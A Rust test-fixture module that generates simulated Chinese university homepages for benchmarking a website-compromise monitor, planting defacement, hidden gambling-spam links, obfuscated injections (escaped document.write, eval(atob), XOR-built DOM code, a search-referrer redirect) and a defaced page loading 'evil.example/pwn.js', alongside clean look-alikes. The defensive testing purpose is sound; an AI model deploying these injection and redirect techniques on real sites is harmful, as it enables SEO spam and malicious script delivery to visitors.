//! Simulated university sites for tests and benchmarks: realistic pages
//! (30–80 KB, Chinese text, navigation with a hidden drop-down menu,
//! scripts, a footer with the ICP number) and their planted faults
//! (defacement, hidden spam links). Deterministic: site `n` always gets
//! the same page.

pub mod deep;
mod server;

use std::fmt::Write;

pub use deep::Deep;
pub use server::{Cert, Cloak, Farm, Site, site_number};

/// What a simulated page carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Plant {
    Clean,
    /// The page replaced by a hacker's message and script.
    Defaced,
    /// A hidden block of gambling links injected into the footer.
    HiddenLinks,
    /// The same block written by an escaped `document.write` (`\x`, `\u`
    /// or `unescape('%u…')`, by page).
    ScriptEscaped,
    /// The same block written by `eval(atob(…))` or `innerHTML = atob(…)`.
    ScriptBase64,
    /// A script that sends visitors arriving from a search engine to a gambling site.
    SearchRedirectScript,
    /// Clean look-alike: the security office warns students against online gambling.
    GamblingWarning,
    /// Clean look-alike: a hidden sign-in modal to the institution's single sign-on
    /// (`ids.univ.example`) and a skip link.
    LoginModal,
    /// Clean look-alike: Baidu 统计 and CNZZ snippets.
    Analytics,
    /// The hidden block written by the site's own script file
    /// (`/js/common.js`, the kit's code appended to the menu script).
    ScriptFile,
    /// Clean look-alike: tabs whose other panels (partner links, notices)
    /// are hidden until a visitor clicks their heading.
    Tabs,
    /// Clean look-alike: a carousel whose other slides are hidden until they turn.
    Carousel,
    /// The block built at run time by code static decoding cannot follow
    /// (XOR-ed character codes in a loop, DOM calls, a timer): only a
    /// browser sees it (the rendered view).
    ScriptBuilt,
}

impl Plant {
    /// The tricks of spam kits (a monitor must raise a critical finding).
    pub const TRICKS: &[Plant] =
        &[Plant::HiddenLinks, Plant::ScriptEscaped, Plant::ScriptBase64, Plant::SearchRedirectScript];
    /// Clean pages that look like tricks (a monitor must stay below high).
    pub const LOOK_ALIKES: &[Plant] =
        &[Plant::Clean, Plant::GamblingWarning, Plant::LoginModal, Plant::Analytics, Plant::Tabs, Plant::Carousel];
    /// Tricks in the site's script file (the page itself is clean).
    pub const FILE_TRICKS: &[Plant] = &[Plant::ScriptFile];
    /// Tricks only the rendered view catches.
    pub const RENDER_TRICKS: &[Plant] = &[Plant::ScriptBuilt];
}

/// What a spam kit injects, varied by page: domains and words.
fn injection(n: u64) -> String {
    const DOMAINS: &[&str] = &["casino.example", "bet.example", "slots.example", "lucky-888.example"];
    const TEXTS: &[&str] = &["澳门赌场", "百家乐开户送彩金", "真人娱乐", "线上赌场"];
    const HIDES: &[&str] = &[
        "position:absolute;left:-9999px;top:-9999px",
        "display:none",
        "visibility:hidden",
        "height:0;overflow:hidden",
    ];
    let k = n as usize;
    format!(
        "<div style=\"{}\"><a href=\"http://{}/\">{}</a><a href=\"http://{}/\">{}</a></div>",
        HIDES[k % HIDES.len()],
        DOMAINS[k % DOMAINS.len()],
        TEXTS[k % TEXTS.len()],
        DOMAINS[(k + 1) % DOMAINS.len()],
        TEXTS[(k + 2) % TEXTS.len()],
    )
}

fn base64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// The site's `/js/common.js`: menu code every page loads, with a kit's
/// code appended when the site has `Plant::ScriptFile`.
pub fn script_file(n: u64, plant: Plant) -> String {
    let mut js = String::from(
        "/* common.js: site menus */\n\
         function navOn(id){var m=document.getElementById(id);if(m){m.className+=' on';}}\n\
         function tabs(h,b){var hs=document.getElementById(h).children,bs=document.getElementById(b).children;\
         for(var i=0;i<hs.length;i++){hs[i].onclick=(function(k){return function(){for(var j=0;j<bs.length;j++){bs[j].style.display=j==k?'block':'none';}};})(i);}}\n\
         function fill(id,html){var e=document.getElementById(id);if(e){e.innerHTML=html;}}\n\
         var today=new Date();document.write('<span class=\"today\">'+today.getFullYear()+'年'+(today.getMonth()+1)+'月'+today.getDate()+'日</span>');\n",
    );
    if plant == Plant::ScriptFile {
        let inj = injection(n);
        match n % 2 {
            0 => {
                let escaped: String = inj.encode_utf16().map(|u| format!("\\u{u:04x}")).collect();
                js.push_str(&format!("document.writeln(\"{escaped}\");\n"));
            }
            _ => js.push_str(&format!("eval(atob(\"{}\"));\n", base64(&format!("document.write('{inj}');")))),
        }
    }
    js
}

/// What a plant puts before the footer.
fn planted(plant: Plant, n: u64) -> String {
    let inj = injection(n);
    match plant {
        Plant::Clean | Plant::Defaced | Plant::HiddenLinks | Plant::ScriptFile => String::new(),
        Plant::ScriptEscaped => {
            let body: String = match n % 3 {
                0 => inj.encode_utf16().map(|u| if u < 0x80 { format!("\\x{u:02x}") } else { format!("\\u{u:04x}") }).collect(),
                1 => inj.encode_utf16().map(|u| format!("\\u{u:04x}")).collect(),
                _ => format!("\"+unescape('{}')+\"", inj.encode_utf16().map(|u| format!("%u{u:04X}")).collect::<String>()),
            };
            format!("<script type=\"text/javascript\">document.write(\"{body}\");</script>")
        }
        Plant::ScriptBase64 => match n % 2 {
            0 => format!("<script>eval(atob(\"{}\"))</script>", base64(&format!("document.write('{inj}');"))),
            _ => format!(
                "<div id=\"ft{n}\"></div><script>var s{n}=\"{}\";document.getElementById(\"ft{n}\").innerHTML=decodeURIComponent(escape(window.atob(s{n})));</script>",
                base64(&inj)
            ),
        },
        Plant::SearchRedirectScript => {
            let engines = ["\"baidu\"", "\"sogou\"", "\"so.com\"", "\"sm.cn\""];
            let test: Vec<String> = engines.iter().map(|e| format!("r.indexOf({e})>-1")).collect();
            format!(
                "<script>(function(){{var r=document.referrer.toLowerCase();if({}){{setTimeout(function(){{window.location.href=\"http://{}/?from={n}\";}},{});}}}})();</script>",
                test[..2 + (n as usize % 3)].join("||"),
                ["casino.example", "bet.example"][n as usize % 2],
                n % 5 * 100
            )
        }
        Plant::Tabs => {
            let partners = "<a href=\"https://www.partner-univ.example.org/\">合作院校</a> \
                 <a href=\"http://www.moe.example.gov/\">教育部</a> <a href=\"https://www.cernet.example.net/\">中国教育网</a>";
            match n % 3 {
                // Panels with a class, the others hidden inline (the usual tab script).
                0 => format!(
                    "<div class=\"tab-hd\"><span class=\"on\">学院新闻</span><span>合作交流</span><span>警示教育</span></div>\
                     <div class=\"tab-bd\"><div class=\"tab-pane\"><a href=\"/info/{n}/1.htm\">学院召开年度工作会议</a></div>\
                     <div class=\"tab-pane\" style=\"display:none\">{partners}</div>\
                     <div class=\"tab-pane\" style=\"display:none\"><p>警惕网络赌博：“百家乐”“线上赌场”都是骗局，请同学们远离。</p></div></div>"
                ),
                // Panels told apart by a numbered id (con_one_1, con_one_2 …), as CMS templates do.
                1 => format!(
                    "<div id=\"con_one_1\"><a href=\"/info/{n}/2.htm\">通知公告</a></div>\
                     <div id=\"con_one_2\" style=\"display:none\">{partners}</div>"
                ),
                // Hidden by a class of the page's style sheet.
                _ => format!(
                    "<style>.tab-hide{{display:none}}</style><ul class=\"tabs\"><li class=\"panel\"><a href=\"/info/{n}/3.htm\">学术讲座</a></li>\
                     <li class=\"panel tab-hide\">{partners}</li></ul>"
                ),
            }
        }
        Plant::Carousel => match n % 2 {
            0 => format!(
                "<ul class=\"focus\"><li style=\"display:block\"><a href=\"/info/{n}/4.htm\">校园风光</a></li>\
                 <li style=\"display:none\"><a href=\"https://news.partner-univ.example.org/{n}\">合作办学签约仪式</a></li>\
                 <li style=\"display:none\"><a href=\"https://www.moe.example.gov/jyb/{n}\">教育部部署工作</a></li></ul>"
            ),
            _ => format!(
                "<div class=\"swiper\"><div class=\"swiper-slide\"><a href=\"/info/{n}/5.htm\">毕业典礼</a></div>\
                 <div class=\"swiper-slide\" style=\"opacity:0\"><a href=\"https://www.partner-univ.example.org/news/{n}\">兄弟院校来访</a></div></div>"
            ),
        },
        Plant::ScriptBuilt => {
            let key = 7 + (n % 50) as u32;
            let codes = |text: &str| -> String {
                text.encode_utf16().map(|u| (u32::from(u) ^ key).to_string()).collect::<Vec<_>>().join(",")
            };
            let domain = ["casino.example", "bet.example", "slots.example", "lucky-888.example"][n as usize % 4];
            let word = ["澳门赌场", "百家乐开户送彩金", "真人娱乐", "线上赌场"][n as usize % 4];
            let decode = format!("function d{n}(a){{var s='';for(var i=0;i<a.length;i++){{s+=String.fromCharCode(a[i]^{key});}}return s;}}");
            match n % 3 {
                // The whole block as markup, put off-screen.
                0 => format!(
                    "<script>(function(){{{decode}var b=document.createElement('div');b.style.position='absolute';b.style.left='-7000px';\
                     b.innerHTML=d{n}([{}]);document.body.appendChild(b);}})();</script>",
                    codes(&format!("<a href=\"http://{domain}/\">{word}</a>"))
                ),
                // Links made one by one with DOM calls, in a box of no height.
                1 => format!(
                    "<div id=\"w{n}\" style=\"height:0;overflow:hidden\"></div><script>(function(){{{decode}\
                     var a=document.createElement('a');a.href=d{n}([{}]);a.textContent=d{n}([{}]);\
                     document.getElementById('w{n}').appendChild(a);}})();</script>",
                    codes(&format!("http://{domain}/")),
                    codes(word)
                ),
                // A moment after the page loads, into an element hidden by a class.
                _ => format!(
                    "<style>.ft-x{n}{{display:none}}</style><p class=\"ft-x{n}\" id=\"t{n}\"></p><script>{decode}\
                     setTimeout(function(){{document.getElementById('t{n}').innerHTML=d{n}([{}]);}},200);</script>",
                    codes(&format!("<a href=\"http://{domain}/\">{word}</a>"))
                ),
            }
        }
        Plant::GamblingWarning => "<div class=\"notice\"><h3>保卫处安全提示：防范网络赌博</h3>\
             <p>近期有不法分子以“线上赌场”“百家乐”“真人娱乐”等名义诱骗学生参与网络赌博，请同学们提高警惕，远离网络赌博。</p>\
             <p>严禁在校园网内访问赌博网站，发现相关线索请及时向保卫处举报。</p></div>"
            .to_owned(),
        Plant::LoginModal => format!(
            "<a class=\"skip\" href=\"#main\">跳到正文</a><div id=\"login-modal\" style=\"display:none\">\
             <a href=\"https://ids.univ.example/authserver/login?service=https%3A%2F%2Fsite{n}.univ.example%2F\">统一身份认证登录</a>\
             <a href=\"https://ids.univ.example/authserver/getBackPasswordMainPage.do\">忘记密码</a></div>"
        ),
        Plant::Analytics => "<script>var _hmt = _hmt || [];(function() {var hm = document.createElement(\"script\");\
             hm.src = \"https://hm.baidu.com/hm.js?0123456789abcdef0123456789abcdef\";var s = document.getElementsByTagName(\"script\")[0];\
             s.parentNode.insertBefore(hm, s);})();</script><script type=\"text/javascript\">var cnzz_protocol = ((\"https:\" == document.location.protocol) ? \"https://\" : \"http://\");\
             document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1000'%3E%3C/span%3E%3Cscript src='\" + cnzz_protocol + \"s9.cnzz.com/z_stat.php%3Fid%3D1000' type='text/javascript'%3E%3C/script%3E\"));</script>"
            .to_owned(),
    }
}

const WORDS: &[&str] = &[
    "学院",
    "新闻",
    "通知",
    "公告",
    "学术",
    "讲座",
    "本科生",
    "研究生",
    "招生",
    "就业",
    "科研",
    "成果",
    "党建",
    "工作",
    "实验室",
    "国家重点",
    "教授",
    "团队",
    "获得",
    "表彰",
    "会议",
    "召开",
    "关于",
    "举办",
    "第十届",
    "创新",
    "创业",
    "大赛",
    "的",
    "通知",
    "学生",
    "教师",
    "国际",
    "交流",
    "合作",
    "项目",
    "申报",
    "评审",
    "结果",
    "公示",
];

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn sentence(&mut self, words: usize) -> String {
        let mut s = String::new();
        self.sentence_into(&mut s, words);
        s
    }
    /// A sentence written into `out` after clearing it (the farm serves
    /// thousands of pages a second from the benchmark's two cores: no allocation per sentence).
    fn sentence_into<'a>(&mut self, out: &'a mut String, words: usize) -> &'a str {
        out.clear();
        for _ in 0..words {
            out.push_str(WORDS[self.below(WORDS.len())]);
        }
        out
    }
}

/// The ICP number every simulated site shows in its footer.
pub const ICP: &str = "京ICP备05004617号-3";

/// The public-security filing number (公网安备号) every simulated site shows.
pub const PUBLIC_SECURITY: &str = "京公网安备 11010802000001号";

/// The page of simulated site `n` with `plant`; `revision` changes the
/// dynamic parts only (the date line, a visit counter).
pub fn page(n: u64, plant: Plant, revision: u64) -> String {
    page_with_numbers(n, plant, revision, ICP, PUBLIC_SECURITY)
}

/// `page`, showing `icp` and `public_security` as the filing numbers in the footer.
pub fn page_with_numbers(n: u64, plant: Plant, revision: u64, icp: &str, public_security: &str) -> String {
    let mut rng = Rng(n.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let name = format!("{}学院", rng.sentence(2));
    if plant == Plant::Defaced {
        return "<html><head><title>Hacked by Team X</title></head><body style=\"background:#000;color:#0f0\">\
             <h1>Hacked by Team X</h1><p>Your security is zero. 已被入侵</p>\
             <script src=\"http://evil.example/pwn.js\"></script><iframe src=\"http://evil.example/\" width=0 height=0></iframe>\
             </body></html>"
            .to_owned();
    }
    let target = 30_000 + rng.below(50_000);
    let mut html = String::with_capacity(target + 4096);
    html.push_str(&format!(
        "<!DOCTYPE html><html lang=\"zh-CN\"><head><meta charset=\"utf-8\"><title>{name} - 大学</title>\
         <meta name=\"keywords\" content=\"{name},大学,教学,科研\"><meta name=\"viewport\" content=\"width=device-width\">\
         <link rel=\"stylesheet\" href=\"/css/style.css\"><link rel=\"icon\" href=\"/favicon.ico\">\
         <style>.menu-sub{{display:none}} .nav li{{float:left}} .footer{{color:#666;background:#f5f5f5}}</style>\
         <script src=\"/js/jquery.min.js\"></script><script src=\"/js/common.js\"></script></head><body>\
         <div class=\"header\"><div class=\"logo\"><img src=\"/images/logo.png\" alt=\"{name}\"></div>\
         <div class=\"date\">2026年12月{}日 星期{}</div></div><ul class=\"nav\">",
        revision % 28 + 1,
        ["一", "二", "三", "四", "五", "六", "日"][(revision % 7) as usize]
    ));
    let (mut a, mut b, mut c) = (String::new(), String::new(), String::new());
    for i in 0..12 {
        let _ = write!(
            html,
            "<li><a href=\"/col/{i}/\">{}</a><ul class=\"menu-sub\"><li><a href=\"/col/{i}/a.html\">{}</a></li><li><a href=\"/col/{i}/b.html\">{}</a></ul>",
            rng.sentence_into(&mut a, 2),
            rng.sentence_into(&mut b, 2),
            rng.sentence_into(&mut c, 2)
        );
    }
    html.push_str("</ul><div class=\"main\">");
    let mut item = 0;
    while html.len() < target {
        let summary = rng.sentence_into(&mut a, 40);
        let t = rng.sentence_into(&mut b, 6);
        let _ = write!(
            html,
            "<div class=\"news\"><h3><a href=\"/info/{n}/{item}.htm\" title=\"{t}\">{t}</a></h3>\
             <p class=\"summary\">{summary}</p><span class=\"time\">2026-11-{:02}</span></div>",
            item % 28 + 1,
        );
        item += 1;
        if item % 10 == 0 {
            let _ = write!(
                html,
                "<table class=\"list\"><tr><th>项目</th><th>负责人</th></tr><tr><td>{}</td><td>{}</td></tr></table>",
                rng.sentence_into(&mut a, 5),
                rng.sentence_into(&mut b, 1)
            );
        }
    }
    html.push_str("</div><div class=\"links\">友情链接：<a href=\"https://www.moe.gov.cn/\">教育部</a> <a href=\"https://www.edu.cn/\">中国教育网</a></div>");
    if plant == Plant::HiddenLinks {
        html.push_str(
            "<div style=\"position:absolute;left:-9999px;top:-9999px\"><a href=\"http://casino.example/\">澳门赌场</a>\
             <a href=\"http://bet.example/\">百家乐开户送彩金</a><a href=\"http://slots.example/\">真人娱乐</a></div>",
        );
    } else {
        html.push_str(&planted(plant, n));
    }
    html.push_str(&format!(
        "<div class=\"footer\"><p>版权所有 © 2026 {name} 地址：大学路1号</p><p><a href=\"https://beian.miit.gov.cn/\">{icp}</a> \
         <a href=\"http://www.beian.gov.cn/portal/registerSystemInfo\">{public_security}</a></p>\
         <p id=\"count\">访问量：{}</p></div>\
         <script>var _hmt=_hmt||[];(function(){{var hm=document.createElement(\"script\");hm.src=\"/js/stat.js?{n}\";\
         var s=document.getElementsByTagName(\"script\")[0];s.parentNode.insertBefore(hm,s);}})();</script></body></html>",
        100_000 + revision * 7
    ));
    html
}

/// Exclusions a site operator would set for the simulated pages' dynamic parts.
pub fn dynamic_selectors() -> Vec<String> {
    vec![".date".to_owned(), "#count".to_owned()]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pages_are_realistic_and_deterministic() {
        for n in 0..20 {
            let p = page(n, Plant::Clean, 0);
            assert!((30_000..90_000).contains(&p.len()), "{}", p.len());
            assert_eq!(p, page(n, Plant::Clean, 0));
            assert!(p.contains(ICP));
        }
        assert_ne!(page(1, Plant::Clean, 0), page(1, Plant::Clean, 1), "revisions change the dynamic parts");
        assert!(page(1, Plant::HiddenLinks, 0).contains("casino.example"));
    }
}
